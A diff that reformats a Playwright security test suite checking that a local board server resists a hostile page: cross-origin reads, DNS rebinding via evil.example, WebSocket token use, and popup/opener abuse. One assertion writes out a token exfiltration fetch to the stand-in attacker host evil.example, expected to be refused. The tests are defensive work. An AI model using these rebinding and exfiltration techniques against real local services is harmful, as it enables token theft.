@@ -9,7 +9,7 @@ import { startSimulatorProcess, type SimulatorProcess } from '../fixtures/simula
  * The board for browsers, as a page of somebody else attacks it: from another origin, and from the attacker's own name
  * re-pointed to this machine (DNS rebinding). The page even knows the port, and in one case the token.
  */
-describe.skipIf(!havePeers('chromium'))('a hostile page in the user\'s browser', () => {
+describe.skipIf(!havePeers('chromium'))("a hostile page in the user's browser", () => {
   let simulator: SimulatorProcess
   let browser: Browser
   let site: Server
@@ -30,7 +30,14 @@ describe.skipIf(!havePeers('chromium'))('a hostile page in the user\'s browser',
     await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve))
     browser = await chromium.launch({
       executablePath: process.env['CHROMIUM'] ?? '/usr/bin/chromium',
-      args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--host-resolver-rules=MAP *.example 127.0.0.1']
+      args: [
+        '--no-sandbox',
+        '--disable-gpu',
+        '--disable-quic',
+        '--no-first-run',
+        '--disable-background-networking',
+        '--host-resolver-rules=MAP *.example 127.0.0.1'
+      ]
     })
   })
 
@@ -61,14 +68,30 @@ describe.skipIf(!havePeers('chromium'))('a hostile page in the user\'s browser',
 
   test('from its own origin reads nothing, and gets no WebSocket even with the token', async () => {
     const page = await attackerPage('evil.example')
-    const read = await page.evaluate(async (at) => await fetch(`${at}/index.html`).then((answer) => answer.text(), () => 'refused'), `http://127.0.0.1:${port}`)
+    const read = await page.evaluate(
+      async (at) =>
+        await fetch(`${at}/index.html`).then(
+          (answer) => answer.text(),
+          () => 'refused'
+        ),
+      `http://127.0.0.1:${port}`
+    )
     expect(read).toBe('refused')
-    const opaque = await page.evaluate(async (at) => await fetch(`${at}/index.html`, { mode: 'no-cors' }).then((answer) => answer.type, () => 'refused'), `http://127.0.0.1:${port}`)
+    const opaque = await page.evaluate(
+      async (at) =>
+        await fetch(`${at}/index.html`, { mode: 'no-cors' }).then(
+          (answer) => answer.type,
+          () => 'refused'
+        ),
+      `http://127.0.0.1:${port}`
+    )
     // Cross-Origin-Resource-Policy keeps even the bytes that a page could not read out of its process.
     expect(opaque).toBe('refused')
     for (const host of ['127.0.0.1', 'localhost']) {
       for (const query of ['', `?token=${'0'.repeat(64)}`, `?token=${token}`]) {
-        expect(await page.evaluate(trySocket, `ws://${host}:${port}/api${query}`)).toBe('never opened, closed with 1006')
+        expect(await page.evaluate(trySocket, `ws://${host}:${port}/api${query}`)).toBe(
+          'never opened, closed with 1006'
+        )
       }
     }
     await page.close()
@@ -90,12 +113,13 @@ describe.skipIf(!havePeers('chromium'))('a hostile page in the user\'s browser',
     const script = /src="\.?(\/assets\/[^"]+\.js)"/.exec(html)![1]!
     expect(
       await page.evaluate(
-        async (src) => await new Promise((resolve) => {
-          const element = Object.assign(document.createElement('script'), { src, type: 'text/javascript' })
-          element.onload = () => resolve('ran')
-          element.onerror = () => resolve('refused')
-          document.body.append(element)
-        }),
+        async (src) =>
+          await new Promise((resolve) => {
+            const element = Object.assign(document.createElement('script'), { src, type: 'text/javascript' })
+            element.onload = () => resolve('ran')
+            element.onerror = () => resolve('refused')
+            document.body.append(element)
+          }),
         new URL(script, board).href
       )
     ).toBe('refused')
@@ -116,7 +140,9 @@ describe.skipIf(!havePeers('chromium'))('a hostile page in the user\'s browser',
     expect(await page.textContent('body')).toContain(`This server answers at 127.0.0.1:${port} only.`)
     // The same origin now, as the browser sees it: requests go out with no Origin to look at.
     expect(await page.evaluate(async () => (await fetch('/index.html')).status)).toBe(403)
-    expect(await page.evaluate(trySocket, `ws://rebound.example:${port}/api?token=${token}`)).toBe('never opened, closed with 1006')
+    expect(await page.evaluate(trySocket, `ws://rebound.example:${port}/api?token=${token}`)).toBe(
+      'never opened, closed with 1006'
+    )
     await page.close()
   })
 
@@ -124,17 +150,31 @@ describe.skipIf(!havePeers('chromium'))('a hostile page in the user\'s browser',
     const page = await attackerPage('evil.example')
     const [board] = await Promise.all([
       page.waitForEvent('popup'),
-      page.evaluate((url) => void Object.assign(window, { board: window.open(url) }), `http://127.0.0.1:${port}/#token=${token}`)
+      page.evaluate(
+        (url) => void Object.assign(window, { board: window.open(url) }),
+        `http://127.0.0.1:${port}/#token=${token}`
+      )
     ])
     await board.locator('[role="toolbar"]').waitFor()
     expect(await board.evaluate(() => window.opener)).toBeNull()
-    expect(await page.evaluate(() => {
-      const { board: opened } = window as unknown as { board: Window | null }
-      return opened === null || opened.closed
-    })).toBe(true)
+    expect(
+      await page.evaluate(() => {
+        const { board: opened } = window as unknown as { board: Window | null }
+        return opened === null || opened.closed
+      })
+    ).toBe(true)
     expect(await board.evaluate(() => document.cookie)).toBe('')
     // The board's own policy: a script that got in could not carry anything out.
-    expect(await board.evaluate(async (at) => await fetch(at).then(() => 'sent', () => 'refused'), `http://evil.example:${(site.address() as AddressInfo).port}/?${token}`)).toBe('refused')
+    expect(
+      await board.evaluate(
+        async (at) =>
+          await fetch(at).then(
+            () => 'sent',
+            () => 'refused'
+          ),
+        `http://evil.example:${(site.address() as AddressInfo).port}/?${token}`
+      )
+    ).toBe('refused')
     expect(stolen.join('\n')).not.toContain(token)
     await page.close()
   })
